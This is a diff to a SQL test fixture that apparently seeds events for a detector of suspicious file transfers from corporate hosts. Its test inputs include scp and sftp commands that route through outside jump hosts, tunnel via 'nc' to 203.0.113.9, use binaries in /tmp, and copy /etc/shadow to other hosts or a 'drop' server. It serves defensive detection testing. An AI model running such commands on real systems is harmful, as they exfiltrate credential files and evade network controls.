@@ -47,6 +47,14 @@ CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a jump:');
 -- outside, for each host
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-2.corp.example', 'scp a u@drop.example:');
+-- ways to a host of ours: an outside host on the way is new, one of ours is not
+CALL pg_temp.tries('2026-11-20 06:10Z', 'web-1.corp.example', 'scp -J web-2.corp.example,jump a nas-1.corp.example:', 'scp -J web-2,e@203.0.113.11 a nas-1.corp.example:', 'scp -J 203.0.113.11 a nas-1.corp.example:',
+	'scp -oProxyJump=hop.example a nas-1.corp.example:', 'sftp -J hop2.example nas-1.corp.example', 'scp nas-1.corp.example:a 203.0.113.13:b .');
+SELECT pg_temp.launch('2026-11-20 06:40Z', 'web-2.corp.example', 'scp -o ProxyCommand=nc a nas-1.corp.example:');
+UPDATE events SET process_args = '{scp,-o,ProxyCommand=nc 203.0.113.9 443,a,nas-1.corp.example:}' WHERE timestamp = '2026-11-20 06:40Z';
+CALL pg_temp.tries('2026-11-20 06:41Z', 'web-2.corp.example', 'scp a nas-1.corp.example:');
+-- another program than ssh, and a secret that goes from one host of ours to another
+CALL pg_temp.tries('2026-11-20 06:20Z', 'web-1.corp.example', 'scp -S /tmp/ssh a nas-1.corp.example:', 'scp -S /tmp/ssh a nas-1.corp.example:', 'rsync -e /dev/shm/x a nas-1.corp.example:', 'scp -3 web-2.corp.example:/etc/shadow nas-1.corp.example:');
 -- servers, both ways of sending
 CALL pg_temp.tries('2026-11-20 07:00Z', 'db06.corp.example', 'scp -f /etc/shadow', 'scp -t /srv', 'rsync --daemon', 'vsftpd /etc/vsftpd.conf', 'rsync --server --sender -logDtpr . /srv/');
 -- arguments in their order, also where the line says less: the remote host is the last
